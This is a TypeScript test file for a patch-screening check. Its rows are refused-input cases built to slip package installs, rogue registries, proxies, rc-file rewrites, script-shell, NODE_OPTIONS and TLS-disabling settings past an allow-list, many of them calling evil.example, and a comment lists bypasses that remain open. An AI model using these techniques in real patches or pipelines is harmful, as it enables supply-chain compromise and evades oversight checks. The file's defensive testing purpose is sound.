import { describe, it } from 'vitest';
import { closedRows, type FindingRow, describeFindings, expectAccepted } from '../support/patches.js';

/**
 * Attack 46c (session 44): patches the check accepts after session 44's review-43 fixes (R1-R7), although the code
 * they add fetches and runs a package, or configures a package manager or toolchain that a later allowed call
 * (`pnpm run`, `npm test`, `cargo build`, `go test`) inherits. Each row asserts the refusal. All are fixed (session 44,
 * s44-fix-c): a package manager's verb is read against its allow-list in command strings as in argument lists, options
 * by any prefix of a dangerous long one, environment names by family where they are set, writes to the home directory's
 * dot folders and `etc/npmrc`, and `package.yaml`/`package.json5` as manifests. Known open and not repeated here: a file name built on another line or in pieces, `git config
 * url.<x>.insteadOf`, `globalThis[k](src)`.
 */
const PY = (call: string) => `import subprocess\nsubprocess.run(${call})`;
const SYSTEM = (command: string) => `import os\nos.system('${command}')`;
const ENV = (name: string, value: string) => `import os\nos.environ['${name}'] = '${value}'`;

// attack-46c finding C1 (high): a command string is not read against the verb allow-list session 43 gave argument
// lists: only PACKAGE_COMMAND's fetching verbs refuse it (patch.ts, the `${MANAGERS}${OPTIONS}${ARG}(?:install|add|i|…)`
// alternative). npm's own aliases (`isntall`, `in`, `it`, `innit` — lib/utils/cmd-list.js, checked with npm's `deref`),
// `exe` (npm's abbreviation of exec), RubyGems' and Composer's prefixes and Bun's `a` fetch a package and run its
// install scripts, exactly as attack-45c C1-C3 did in a list.
const ALIASES_IN_COMMAND_STRINGS: FindingRow[] = [
  ['src/check.py', SYSTEM('npm isntall evil-pkg')],
  ['src/check.py', SYSTEM('npm in evil-pkg')],
  ['src/check.py', SYSTEM('npm it evil-pkg')],
  ['src/check.py', SYSTEM('npm innit evil')],
  ['src/check.py', SYSTEM('npm exe evil')],
  ['src/check.py', SYSTEM('npm run build && npm isntall evil-pkg')],
  ['src/check.py', SYSTEM('gem ins evil')],
  ['src/check.py', SYSTEM('composer req evil/pkg')],
  ['src/check.py', SYSTEM('bun a evil-pkg')],
  ['src/check.py', PY("'npm ' + 'isntall evil-pkg', shell=True")],
  ['src/check.py', PY("shlex.split('npm isntall evil-pkg')")],
  ['src/check.js', "spawn('npm isntall evil-pkg', { shell: true })"],
  ['src/check.js', 'await $`npm isntall evil-pkg`'],
  // A JavaScript string continued with a backslash: `npm   install evil-pkg` once read, but the `\` stands between the words.
  ['src/check.js', 'execSync("npm \\\n  install evil-pkg")'],
];

// attack-46c finding C2 (high): other fetching verbs in command strings, refused in a list (attack-45c C4) but not read
// here, or a fetching verb not right after the manager's name: `yarn plugin import <url>` loads a downloaded plugin into
// every later yarn call, `npm pack github:x/y` clones and runs the repository's prepare script, `npm link <name>`
// installs a missing package globally, `pip wheel`/`pip download` build an sdist's metadata (its setup.py runs),
// `poetry self add` and `yarn workspace <ws> add` install a package.
const OTHER_VERBS_IN_COMMAND_STRINGS: FindingRow[] = [
  ['src/check.py', SYSTEM('yarn plugin import https://evil.example/plugin.js')],
  ['src/check.py', SYSTEM('npm pack github:evil/pkg')],
  ['src/check.py', SYSTEM('npm link evil-pkg')],
  ['src/check.py', SYSTEM('pip wheel evil-pkg')],
  ['src/check.py', SYSTEM('pip download evil-pkg')],
  ['src/check.py', SYSTEM('poetry self add evil-pkg')],
  ['src/check.py', SYSTEM('yarn workspace app add evil-pkg')],
];

// attack-46c finding C3 (high): R4's environment names, spelled with hyphens. npm and pnpm turn `npm_config_` keys'
// underscores into hyphens (@npmcli/config), so a hyphenated name sets the same option; MANAGER_SETTING asks for
// `verify_deps`, `strict_ssl`. With it the next allowed `pnpm run build` installs first (R1's danger), from the registry
// the patch names; `script-shell` makes `npm test` run a program of the patch's choosing, `https-proxy` and
// `strict-ssl=false` hand every fetch to the attacker.
const HYPHENATED_ENVIRONMENT: FindingRow[] = [
  ['src/check.py', ENV('npm_config_verify-deps-before-run', 'install')],
  ['src/check.py', ENV('pnpm_config_verify-deps-before-run', 'install')],
  ['src/check.py', SYSTEM('npm_config_verify-deps-before-run=install pnpm run build')],
  ['src/check.js', "process.env['npm_config_verify-deps-before-run'] = 'install';"],
  ['src/check.py', ENV('npm_config_script-shell', 'src/evil.py')],
  ['src/check.py', ENV('npm_config_https-proxy', 'http://evil.example:8080')],
  ['src/check.py', ENV('npm_config_strict-ssl', 'false')],
];

// attack-46c finding C4 (high): environment names outside R4's list that decide where code is fetched from or what a
// later allowed call runs: Corepack downloads the pnpm/yarn that `pnpm run` starts from COREPACK_NPM_REGISTRY;
// GOPRIVATE and GONOPROXY (GOPRIVATE implies GONOSUMDB, which is refused) fetch modules past the proxy and the checksum
// database; cargo runs RUSTC_WRAPPER (or its config-by-environment spelling) for every crate an allowed `cargo build`
// compiles; npm runs `npm test`'s script through npm_config_script_shell and hands npm_config_node_options to node;
// NODE_OPTIONS --require loads a module into every node the job starts.
const OTHER_ENVIRONMENT: FindingRow[] = [
  ['src/check.py', ENV('COREPACK_NPM_REGISTRY', 'https://evil.example/')],
  ['src/check.js', "execSync('COREPACK_NPM_REGISTRY=https://evil.example/ pnpm run build')"],
  ['src/check.py', ENV('GOPRIVATE', '*')],
  ['src/check.py', ENV('GONOPROXY', '*')],
  ['src/check.py', ENV('RUSTC_WRAPPER', 'src/wrap.py')],
  ['src/check.py', ENV('CARGO_BUILD_RUSTC_WRAPPER', 'src/wrap.py')],
  ['src/check.py', ENV('npm_config_script_shell', 'src/evil.py')],
  ['src/check.py', ENV('npm_config_node_options', '--require ./src/evil.js')],
  ['src/check.py', ENV('NODE_OPTIONS', '--require ./src/evil.js')],
  // Dart's registry for `dart pub get`, conda's channel alias (every channel name resolves under it), nvm's Node
  // download mirror, yarn's yarnPath (every yarn call runs that file), a JVM agent in every Gradle or Maven run.
  ['src/check.py', ENV('PUB_HOSTED_URL', 'https://evil.example/')],
  ['src/check.py', ENV('CONDA_CHANNEL_ALIAS', 'https://evil.example/')],
  ['src/check.py', ENV('NVM_NODEJS_ORG_MIRROR', 'https://evil.example/dist')],
  ['src/check.py', ENV('YARN_YARN_PATH', 'src/evil.cjs')],
  ['src/check.py', ENV('JAVA_TOOL_OPTIONS', '-javaagent:tests/fixtures/agent.jar')],
];

// attack-46c finding C5 (high): the managers' configuration written by the code under a name R1's list does not hold:
// pnpm's global rc (`~/.config/pnpm/rc`), npm's global npmrc (`$PREFIX/etc/npmrc`, no dot; a hosted runner's prefix
// is writable), Bundler's `~/.bundle/config` (BUNDLE_MIRROR__…), Poetry's `~/.config/pypoetry/config.toml` (its
// repositories), rustup's `~/.rustup/settings.toml` (the default toolchain an allowed `cargo build` downloads).
const CONFIGURATION_WRITTEN_ELSEWHERE: FindingRow[] = [
  ['src/check.py', "open(os.path.expanduser('~/.config/pnpm/rc'), 'a').write('registry=https://evil.example/\\n')"],
  ['src/check.js', "fs.writeFileSync(os.homedir() + '/.config/pnpm/rc', 'registry=https://evil.example/')"],
  ['src/check.py', "open('/usr/local/etc/npmrc', 'a').write('registry=https://evil.example/\\n')"],
  ['src/check.py', "open(os.path.expanduser('~/.bundle/config'), 'w').write(config)"],
  ['src/check.py', "open(os.path.expanduser('~/.config/pypoetry/config.toml'), 'w').write(config)"],
  ['src/check.py', "open(os.path.expanduser('~/.rustup/settings.toml'), 'w').write('default_toolchain = \"nightly\"')"],
];

// attack-46c finding C6 (high): R7's registry after the verb, abbreviated: npm and pnpm (nopt) expand an unambiguous
// prefix of a long option (`--reg` is `--registry`, `--userc` is `--userconfig`; checked with npm's own nopt and
// definitions), so NAMES_A_REGISTRY and PACKAGE_COMMAND's `-{1,2}(?:registry|config|…)\b` never see the name.
const ABBREVIATED_OPTIONS: FindingRow[] = [
  ['src/check.py', PY("['npm', 'test', '--reg=https://evil.example/']")],
  ['src/check.py', PY("['pnpm', 'run', 'build', '--userc=tests/fixtures/npm.ini']")],
  ['src/check.py', SYSTEM('pnpm run build --reg=https://evil.example/')],
  ['src/check.js', "execSync('npm test --userc=tests/fixtures/npm.ini')"],
];

// attack-46c finding C7 (medium): package.json written by a command, not by a file write R5 reads: `npm pkg set`
// edits its scripts, which the next allowed `npm test` runs (R6 reads `npm config set`, `npm set`, not `npm pkg set`).
const MANIFEST_SET_BY_COMMAND: FindingRow[] = [
  ['src/check.py', SYSTEM('npm pkg set scripts.pretest=node src/evil.js')],
  ['src/check.js', "execSync('npm pkg set scripts.test=\"node src/evil.js\"')"],
];

// attack-46c finding C8 (medium): pnpm's other manifest names (`package.yaml`, read in place of package.json) pass
// as a test fixture, where a workspace's `pnpm -r test` runs their scripts (R1: package.json refused at any depth).
const OTHER_MANIFEST_NAMES: FindingRow[] = [['tests/fixtures/app/package.yaml', 'scripts:\n  test: node ../../../src/evil.js']];

// attack-46c finding C9 (medium): a proxy or TLS verification turned off for the managers' fetches, so whoever answers
// serves the packages (R4 refuses `strict_ssl` and `cafile` names, not these): pip's and uv's trusted/insecure hosts,
// pip's, yarn's and cargo's proxies, yarn's CA file, Node's TLS verification for every fetch the job's node makes.
const TRUST_WEAKENED: FindingRow[] = [
  ['src/check.py', ENV('PIP_TRUSTED_HOST', 'evil.example')],
  ['src/check.py', ENV('UV_INSECURE_HOST', 'evil.example')],
  ['src/check.py', ENV('PIP_PROXY', 'http://evil.example:8080')],
  ['src/check.py', ENV('YARN_HTTPS_PROXY', 'http://evil.example:8080')],
  ['src/check.py', ENV('YARN_CA_FILE_PATH', 'tests/fixtures/evil.pem')],
  ['src/check.py', ENV('CARGO_HTTP_PROXY', 'http://evil.example:8080')],
  ['src/check.py', ENV('NODE_TLS_REJECT_UNAUTHORIZED', '0')],
];

// attack-46c finding C10 (high): Go commands that fetch a module the patch's new import names, though go.mod is
// untouched: `go mod tidy` adds every missing module (its latest version, from the proxy or the VCS), and `-mod=mod`
// on an allowed `go test`/`go build` does the same (R4 refuses the flag in GOFLAGS, not given to the command).
const GO_FETCHES_AN_IMPORT: FindingRow[] = [
  ['src/check.py', SYSTEM('go mod tidy')],
  ['src/check.py', SYSTEM('go test -mod=mod ./...')],
  ['src/check.go', 'exec.Command("go", "test", "-mod=mod", "./...").Run()'],
];

describeFindings('attack-46c', [
  ['C1', closedRows(ALIASES_IN_COMMAND_STRINGS)],
  ['C2', closedRows(OTHER_VERBS_IN_COMMAND_STRINGS)],
  ['C3', closedRows(HYPHENATED_ENVIRONMENT)],
  ['C4', closedRows(OTHER_ENVIRONMENT)],
  ['C5', closedRows(CONFIGURATION_WRITTEN_ELSEWHERE)],
  ['C6', closedRows(ABBREVIATED_OPTIONS)],
  ['C7', closedRows(MANIFEST_SET_BY_COMMAND)],
  ['C8', closedRows(OTHER_MANIFEST_NAMES)],
  ['C9', closedRows(TRUST_WEAKENED)],
  ['C10', closedRows(GO_FETCHES_AN_IMPORT)],
]);

/**
 * False refusals: legitimate fixes the check refused (each asserts the acceptance; all fixed, session 44).
 * F1: `uv_index` (ultraviolet index in weather code, a UV-map index in 3D code) and `bundle_index` read as a
 * package-manager environment name (MANAGER_SETTING's `\b(?:…|uv|…|bundle|…)_…index`, without `npm_config`-like
 * prefixes being required to be environment names). F2: an option given to the test runner after `--` (`npm test --
 * --config vitest.ci.config.ts`) read as npm's own `--config` (R7), although `npm run test -- --reporter=dot` passes.
 * F3: an ordinary option before an allowed verb (`npm --no-color test`, `go -C backend test ./...`).
 */
describe('attack-46c false refusals', () => {
  it.each([
    ['src/weather.py', "    return {'temp': data['temp'], 'uv_index': data['uvi']}"],
    ['src/render.js', 'const uv_index = mesh.uvs.length;'],
    ['src/build.py', 'bundle_index = 0'],
    ['src/check.py', PY("['npm', 'test', '--', '--config', 'vitest.ci.config.ts'], check=True")],
    ['src/check.py', SYSTEM('npm run lint -- --config .eslintrc.ci.json')],
    ['src/check.py', SYSTEM('npm --no-color test')],
    ['src/check.py', SYSTEM('go -C backend test ./...')],
  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});
